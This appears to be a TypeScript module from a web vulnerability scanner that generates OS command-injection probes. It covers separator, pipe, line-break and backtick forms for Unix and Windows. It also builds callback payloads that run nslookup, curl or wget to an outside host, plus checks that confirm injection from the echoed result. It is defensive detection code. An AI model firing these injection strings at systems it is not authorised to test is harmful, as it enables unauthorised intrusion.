import type { Callback, CallbackName } from '../../core/callbacks.ts';
import type { InsertionPoint } from '../../core/evidence/insertion-point.ts';
import { hasName } from '../../data/names.ts';
import { locationOf } from '../../web/point-location.ts';
import { type Factors, factorsOf, showsProduct } from '../kit/arithmetic.ts';

/** How a value leaves its place in a command line and computes a product there. */
export interface CommandSyntax {
  readonly name: string;
  /** What follows the site's own value. The word marks the output; what stands at the end may get lost. */
  suffix(factors: Factors, word: string): string;
  /** The same text without its meaning to a shell. */
  nonsense(factors: Factors, word: string): string;
}

/**
 * Three copies of a command: without quotes, in single and in double quotes. The one that fits comments the rest out. The parentheses
 * at the end break a filter of LDAP, so that the same request shows whether the value is in one.
 */
const inAllQuotes = (separator: string, command: string) =>
  `${separator}${command} #'${separator}${command} #"${separator}${command} # )( `;
const echo = ({ a, b }: Factors, word: string) => `echo ${word}$((${a}*${b}))${word}`;
const notEcho = ({ a, b }: Factors, word: string) => `echa ${word}[[${a}*${b}]]${word}`;
const expr = ({ a, b }: Factors) => `expr ${a} \\* ${b}`;
const notExpr = ({ a, b }: Factors) => `exbr ${a} \\* ${b}`;
const setA = ({ a, b }: Factors) => `set /a ${a}*${b}`;

/**
 * What follows the site's own value and makes a shell of Unix call back: a program that is there resolves or requests a name with
 * the product in it.
 * @param isAwaited the shell waits for the program, which ends at once on the loopback interface; elsewhere it may take long
 */
export function callbackSuffix(name: CallbackName, { a, b }: Factors, isAwaited: boolean): string {
  const word = `$((${a}*${b}))`;
  const host = name.host(word);
  const url = name.url(word);
  const lookups = host === null ? [] : [`nslookup ${host}`, `getent hosts ${host}`];
  const programs = [...lookups, `curl -sm5 ${url}`, `wget -qT5 -O- ${url}`].join('||');
  return inAllQuotes(';', `(${programs})>/dev/null 2>&1${isAwaited ? '' : '&'}`);
}

const UNIX: readonly CommandSyntax[] = [
  {
    name: 'semicolon',
    suffix: (factors, word) => inAllQuotes(';', echo(factors, word)),
    nonsense: (factors, word) => inAllQuotes(';', notEcho(factors, word)),
  },
  {
    // Without semicolon, dollar and parentheses, which filters remove.
    name: 'pipe',
    suffix: (factors) => inAllQuotes('|', expr(factors)),
    nonsense: (factors) => inAllQuotes('|', notExpr(factors)),
  },
  {
    name: 'line break or &&',
    suffix: (factors, word) => `&&${echo(factors, word)} #'\n${echo(factors, word)} #"\n${echo(factors, word)}\n`,
    nonsense: (factors, word) =>
      `&&${notEcho(factors, word)} #'\n${notEcho(factors, word)} #"\n${notEcho(factors, word)}\n`,
  },
  {
    name: 'substitution',
    suffix: (factors) => ` \`${expr(factors)}\` '\`${expr(factors)}\`' `,
    nonsense: (factors) => ` ${notExpr(factors)} '${notExpr(factors)}' `,
  },
];

const WINDOWS: readonly CommandSyntax[] = [
  {
    name: 'ampersand',
    suffix: (factors) => `&${setA(factors)}&rem "&${setA(factors)}&rem `,
    nonsense: (factors) => `&${setA(factors).replace('set', 'sed')}&rem "`,
  },
  // PowerShell computes in the same form as a Unix shell.
  ...UNIX.slice(0, 1),
];

export function commandSyntaxes(isWindows: boolean): readonly CommandSyntax[] {
  return isWindows ? WINDOWS : UNIX;
}

/** True when the response has what only a shell makes of the payload. */
export function provesCommand(text: string, payload: string, word: string): boolean {
  const factors = factorsOf(payload);
  if (factors === null || payload.includes(String(factors.a * factors.b))) return false;
  return showsProduct(text, factors, payload.includes(`${word}$((`) ? word : '');
}

/** True when what arrived has the product of the payload's numbers, which only a shell has computed. */
export function provesCall(callback: Callback | undefined, payload: string): boolean {
  const factors = factorsOf(payload);
  return factors !== null && callback?.words.includes(String(factors.a * factors.b)) === true;
}

const COMMAND_VALUE =
  /^(?:\d{1,3}(?:\.\d{1,3}){3}|localhost|[\w-]{1,60}(?:\.[\w-]{1,60}){1,6}|\w+=(?:echo|ls|cat)\b.*|(?:echo|ls|cat|ping|dir)\b.*)$/i;

/** True for names and values that look like hosts, files or commands. */
export function mayBeCommand(point: InsertionPoint, example: string): boolean {
  return hasName('command', locationOf(point).parameter) || COMMAND_VALUE.test(example);
}
